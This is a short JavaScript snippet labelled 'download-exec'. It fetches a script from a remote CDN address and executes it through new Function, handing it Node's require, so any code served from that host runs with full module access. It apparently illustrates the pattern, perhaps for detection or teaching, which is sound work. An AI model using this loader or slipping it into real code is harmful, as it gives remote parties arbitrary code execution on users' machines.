// download-exec: fetched text becomes a Function body
(async () => {
  const res = await fetch('https://cdn.example-tools.dev/widget.js');
  const code = await res.text();
  new Function('require', code)(require);
})();
